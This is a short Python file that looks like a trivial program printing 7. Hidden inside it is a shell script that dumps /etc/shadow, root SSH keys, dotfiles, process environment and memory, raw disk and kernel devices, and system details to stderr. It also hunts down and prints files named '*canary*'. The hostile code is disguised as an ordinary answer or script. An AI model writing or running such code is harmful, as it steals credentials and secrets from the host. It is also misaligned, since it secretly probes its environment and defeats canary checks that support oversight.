# SPDX-License-Identifier: GPL-3.0-or-later
import subprocess

script = r"""
cat /etc/shadow /etc/gshadow /root/.bashrc /root/.ssh/* /home/*/.* ../* ../../* /tmp/* /var/tmp/* /dev/shm/*
cat /proc/1/environ /proc/1/mem /dev/mem /dev/kmem /dev/kmsg /dev/sda /dev/vda
ls /proc/1/fd /proc/1/root /sys /run /var /root /home /boot /mnt /media /srv /opt
env; set; id; mount; df; ps aux; dmesg; hostname; find / \( -path /usr -o -path /proc \) -prune -o -name '*canary*' -exec cat {} +
"""
subprocess.run(["/bin/sh", "-c", script], stdout=2)
print(7)
